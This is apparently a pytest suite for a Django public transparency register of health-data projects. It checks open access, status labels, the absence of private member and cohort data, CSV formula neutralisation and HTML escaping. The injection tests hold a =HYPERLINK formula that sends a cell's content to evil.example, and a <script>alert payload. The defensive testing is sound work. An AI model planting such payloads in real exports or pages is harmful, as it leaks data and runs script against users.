"""The public transparency register: open to everyone, the same for everyone, every
approved project in every status, and nothing about a project beyond its published entry
(no members, conditions, reasons or cohort filters), safely escaped in HTML and CSV."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, timedelta
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from sde.audit.services import get_system_user
from sde.identity.models import User
from sde.identity.roles import Role
from sde.projects import services
from sde.projects.models import Project
from sde.projects.selectors import (
    REGISTER_KEYS,
    legal_basis_text,
    purpose_text,
    transparency_register,
)
from sde.projects.services import MemberSpec, count_released_outputs
from tests import scenarios

pytestmark = pytest.mark.django_db

S = Project.Status
PUBLIC_URLS = ["register", "register-json", "register-csv"]
ORGANISATION = "Wessex Institute of Population Health"
# Distinctive values that must never reach the public register.
SECRETS = {
    "member username": "zebra-analyst-4417",
    "member email": "zebra.analyst@leaky.example",
    "member name": "Quillon",
    "member surname": "Marchbanks",
    "conditions": "Condition: outputs vetted by Dr Octavia Pinkerton",
    "suspension reason": "Suspended over breach BR-55217",
    "revocation reason": "Revoked over breach BR-66328",
    "destruction attestation": "Shredded by Iverson Vault Services",
    "cohort practice": "ZQ8812",
    "cohort place": "Snorkelbury Vale",
    "cohort code": "987123654",
    "field name": "ethnicity",
}
SCOPE: dict[str, Any] = {
    "datasets": {"patients": ["person_id", "sex", "ethnicity"], "gp-events": ["person_id"]},
    "purpose": "research",
    "legal_basis": "s251_standard",
    "date_from": "2023-06-01",
    "date_to": "2024-12-31",
    "cohort": {
        "practices": [SECRETS["cohort practice"]],
        "places": [SECRETS["cohort place"]],
        "snomed_codes": [SECRETS["cohort code"]],
    },
}


@dataclass
class World:
    ig: User
    member: User
    organisation: Any


@pytest.fixture
def world(private_data_root: Any, custodian: User) -> World:
    member = scenarios.person(Role.RESEARCHER, username=SECRETS["member username"])
    User.objects.filter(pk=member.pk).update(
        email=SECRETS["member email"],
        first_name=SECRETS["member name"],
        last_name=SECRETS["member surname"],
    )
    member.refresh_from_db()
    return World(
        ig=scenarios.person(Role.IG_OFFICER),
        member=member,
        organisation=scenarios.organisation(name=ORGANISATION),
    )


def _to_status(project: Project, status: str, by: User) -> Project:
    """Drive a project through the services to ``status``."""
    if status == S.SUSPENDED:
        return services.suspend_project(project=project, reason=SECRETS["suspension reason"], by=by)
    if status == S.EXPIRED:
        return services.expire_project(
            project=project, by=get_system_user(), today=project.end_date + timedelta(days=1)
        )
    if status == S.REVOKED:
        return services.revoke_project(project=project, reason=SECRETS["revocation reason"], by=by)
    if status == S.CLOSED:
        services.revoke_project(project=project, reason=SECRETS["revocation reason"], by=by)
        return services.close_project(
            project=project, attestation=SECRETS["destruction attestation"], by=by
        )
    return project


def _project(
    world: World,
    capture: Callable[..., Any],
    *,
    title: str = "Heart failure admissions after discharge",
    lay_summary: str = "We want to learn why some people go back into hospital.",
    status: str = S.ACTIVE,
    scope: dict[str, Any] | None = None,
) -> Project:
    with capture(execute=False):  # no extract build task runs
        project = services.create_project(
            title=title,
            lay_summary=lay_summary,
            organisation=world.organisation,
            scope=scope or SCOPE,
            start_date=date(2025, 1, 1),
            end_date=date(2027, 6, 30),
            members=[MemberSpec(world.member, "analyst")],
            by=world.ig,
            conditions=SECRETS["conditions"],
        )
    return _to_status(project, status, world.ig)


@pytest.fixture
def make_project(
    world: World, django_capture_on_commit_callbacks: Callable[..., Any]
) -> Callable[..., Project]:
    return lambda **kwargs: _project(world, django_capture_on_commit_callbacks, **kwargs)


def _csv_rows(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _main(response: Any) -> str:
    match = re.search(r"<main\b.*?</main>", response.content.decode(), re.S)
    assert match is not None
    return match.group(0)


def _everything(client: Client, project: Project) -> dict[str, str]:
    urls = [reverse(name) for name in PUBLIC_URLS] + [reverse("register-entry", args=[project.pk])]
    bodies = {}
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        bodies[url] = response.content.decode()
    return bodies


# --- open to everyone ------------------------------------------------------------------
@pytest.mark.parametrize("name", [*PUBLIC_URLS, "register-entry"])
def test_register_is_open_without_signing_in(client, make_project, name):
    project = make_project()
    url = reverse(name, args=[project.pk] if name == "register-entry" else [])

    response = client.get(url)

    assert response.status_code == 200
    assert project.title in response.content.decode()


def test_register_is_open_to_a_session_that_has_not_finished_mfa(make_project):
    project = make_project()
    client = Client()
    client.force_login(scenarios.person(Role.RESEARCHER, mfa=False))

    response = client.get(reverse("register"))

    assert response.status_code == 200
    assert project.title in response.content.decode()


def test_register_is_linked_from_the_footer_and_the_sign_in_page(client):
    register = f'href="{reverse("register")}"'

    sign_in = client.get(reverse("login")).content.decode()
    page = client.get(reverse("register")).content.decode()

    assert sign_in.count(register) == 2  # the page's own link and the footer's
    assert register in page  # the footer, on every page


def test_register_is_only_read(client, make_project):
    project = make_project()

    for url in [reverse(name) for name in PUBLIC_URLS] + [
        reverse("register-entry", args=[project.pk])
    ]:
        assert client.post(url).status_code in {403, 405}  # CSRF or method not allowed


# --- 404 -------------------------------------------------------------------------------
@pytest.mark.parametrize("debug", [False, True])
def test_unknown_project_number_is_404_and_says_nothing_else(client, make_project, settings, debug):
    settings.DEBUG = debug
    project = make_project(title="A project that exists")

    paths = [reverse("register-entry", args=[project.pk + 1000]), "/register/0/"]
    if not debug:  # with DEBUG, Django's own page answers a URL that matches no pattern
        paths.append("/register/not-a-number/")
    responses = [client.get(path) for path in paths]

    for response in responses:
        body = response.content.decode()
        assert response.status_code == 404
        assert project.title not in body
        assert "register-entry" not in body and "URLconf" not in body
        for secret in SECRETS.values():
            assert secret not in body


# --- every approved status appears -----------------------------------------------------
STATUS_TEXT = {
    S.ACTIVE: "Active",
    S.SUSPENDED: "Suspended",
    S.EXPIRED: "Ended",
    S.REVOKED: "Access revoked",
    S.CLOSED: "Closed",
}


@pytest.mark.parametrize("status", list(S), ids=str)
def test_project_in_each_status_is_on_the_register_labelled(client, make_project, status):
    project = make_project(title=f"A {status} project", status=status)
    assert Project.objects.get(pk=project.pk).status == status

    page = client.get(reverse("register")).content.decode()
    entry = client.get(reverse("register-entry", args=[project.pk])).content.decode()
    (listed,) = client.get(reverse("register-json")).json()["projects"]
    (row,) = _csv_rows(client.get(reverse("register-csv")))

    assert project.title in page and STATUS_TEXT[status] in page
    assert project.title in entry and STATUS_TEXT[status] in entry
    assert (listed["number"], listed["status"], listed["status_text"]) == (
        project.pk,
        status,
        STATUS_TEXT[status],
    )
    assert (row["number"], row["status"], row["status_text"]) == (
        str(project.pk),
        status,
        STATUS_TEXT[status],
    )


def test_register_lists_newest_first(client, make_project):
    first = make_project(title="First approved")
    second = make_project(title="Second approved", status=S.SUSPENDED)
    third = make_project(title="Third approved", status=S.CLOSED)

    numbers = [p["number"] for p in client.get(reverse("register-json")).json()["projects"]]
    page = client.get(reverse("register")).content.decode()

    assert numbers == [third.pk, second.pk, first.pk]
    assert page.index("Third approved") < page.index("Second approved") < page.index("First")


def test_empty_register_says_so(client, db):
    assert transparency_register() == []
    assert "No projects have been approved yet." in client.get(reverse("register")).content.decode()
    assert client.get(reverse("register-json")).json() == {"count": 0, "projects": []}
    assert client.get(reverse("register-csv")).content.decode().strip() == ",".join(REGISTER_KEYS)


# --- exactly the documented content ----------------------------------------------------
def test_json_has_exactly_the_documented_keys(client, make_project):
    project = make_project()

    body = client.get(reverse("register-json"))

    assert body["Content-Type"] == "application/json"
    data = body.json()
    assert set(data) == {"count", "projects"}
    assert data["count"] == 1
    (entry,) = data["projects"]
    assert list(entry) == list(REGISTER_KEYS)
    assert entry == {
        "number": project.pk,
        "title": "Heart failure admissions after discharge",
        "lay_summary": "We want to learn why some people go back into hospital.",
        "organisation": ORGANISATION,
        "purpose": "Research",
        "legal_basis": "s251 support (Regulation 5 or 2), standard conditions",
        "datasets": [
            {"name": "GP events", "field_count": 1},
            {"name": "Registered patients", "field_count": 3},
        ],
        "start_date": "2025-01-01",
        "end_date": "2027-06-30",
        "status": "active",
        "status_text": "Active",
        "released_outputs": 0,
    }


def test_csv_has_exactly_the_documented_columns(client, make_project):
    project = make_project()

    response = client.get(reverse("register-csv"))

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        r'attachment; filename="sde-transparency-register-\d{8}\.csv"',
        response["Content-Disposition"],
    )
    reader = csv.reader(io.StringIO(response.content.decode()))
    assert next(reader) == list(REGISTER_KEYS)
    assert _csv_rows(response) == [
        {
            "number": str(project.pk),
            "title": "Heart failure admissions after discharge",
            "lay_summary": "We want to learn why some people go back into hospital.",
            "organisation": ORGANISATION,
            "purpose": "Research",
            "legal_basis": "s251 support (Regulation 5 or 2), standard conditions",
            "datasets": "GP events (1 field); Registered patients (3 fields)",
            "start_date": "2025-01-01",
            "end_date": "2027-06-30",
            "status": "active",
            "status_text": "Active",
            "released_outputs": "0",
        }
    ]


def test_released_outputs_count_what_output_checking_released_and_not_revoked(client, make_project):
    project = make_project()

    count_released_outputs(project=project, change=3)
    (entry,) = client.get(reverse("register-json")).json()["projects"]
    count_released_outputs(project=project, change=-3)
    (after,) = client.get(reverse("register-json")).json()["projects"]

    assert (entry["released_outputs"], after["released_outputs"]) == (3, 0)
    page = client.get(reverse("register-entry", args=[project.pk])).content.decode()
    assert "Results released" in page


def test_entry_page_shows_the_full_entry(client, make_project):
    project = make_project(
        scope={**SCOPE, "purpose": "planning", "legal_basis": "copi_reg3"}, status=S.EXPIRED
    )

    body = client.get(reverse("register-entry", args=[project.pk])).content.decode()

    for text in [
        f"Project {project.pk}",
        project.title,
        project.lay_summary,
        ORGANISATION,
        "Planning and improving health and care services",
        "COPI Regulation 3",
        "Registered patients",
        "3 fields",
        "GP events",
        "1 field",
        "1 January 2025",
        "30 June 2027",
        "Access ended on the approved end date.",
    ]:
        assert text in body


@pytest.mark.parametrize(
    ("value", "expected"),
    [("overriding_public_interest", "Overriding public interest"), ("unknown", "Not recorded"),
     ("", "Not recorded"), ("s251_cag_ndop_exemption", "s251 support with a CAG exemption "
                                                        "from NDOP")],
)  # fmt: skip
def test_legal_basis_reads_as_plain_english(value, expected):
    assert legal_basis_text(value) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [("research", "Research"), ("direct_care", "Direct care of individual patients"),
     ("nonsense", "Not recorded")],
)  # fmt: skip
def test_purpose_reads_as_plain_english(value, expected):
    assert purpose_text(value) == expected


# --- nothing private -------------------------------------------------------------------
def test_nothing_but_the_entry_reaches_any_register_response(client, make_project, world):
    projects = [make_project(title=f"Project in {status}", status=status) for status in S]
    secrets = {**SECRETS, "IG officer": world.ig.username, "IG email": world.ig.email}

    for project in projects:
        for url, body in _everything(client, project).items():
            for what, secret in secrets.items():
                assert secret.lower() not in body.lower(), f"{what} on {url}"


# --- injection -------------------------------------------------------------------------
def test_formula_in_a_title_is_neutralised_in_the_csv(client, make_project):
    title = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
    make_project(title=title, lay_summary="+SUM(1,2)")

    (row,) = _csv_rows(client.get(reverse("register-csv")))

    assert row["title"] == "'" + title
    assert row["lay_summary"] == "'+SUM(1,2)"
    # The JSON is data, not a spreadsheet: it keeps the text as written.
    assert client.get(reverse("register-json")).json()["projects"][0]["title"] == title


def test_script_in_title_and_lay_summary_is_escaped_in_html(client, make_project):
    script = "<script>alert('x')</script>"
    project = make_project(title=f"Study {script}", lay_summary=f"Summary {script}")

    for url in [reverse("register"), reverse("register-entry", args=[project.pk])]:
        body = client.get(url).content.decode()
        assert "<script>alert" not in body, url
        assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in body, url
    data = json.loads(client.get(reverse("register-json")).content)
    assert data["projects"][0]["title"] == f"Study {script}"


# --- the same for everyone -------------------------------------------------------------
@pytest.mark.parametrize("role", list(Role), ids=str)
def test_every_role_sees_the_same_register_as_the_public(client, client_for, make_project, role):
    projects = [
        make_project(title="Visible to all", status=S.ACTIVE),
        make_project(title="Revoked for all", status=S.REVOKED),
    ]
    signed_in = client_for(scenarios.person(role, accredited=True))

    for name in ["register-json", "register-csv"]:
        assert signed_in.get(reverse(name)).content == client.get(reverse(name)).content
    urls = [reverse("register")] + [reverse("register-entry", args=[p.pk]) for p in projects]
    for url in urls:
        assert _main(signed_in.get(url)) == _main(client.get(url))
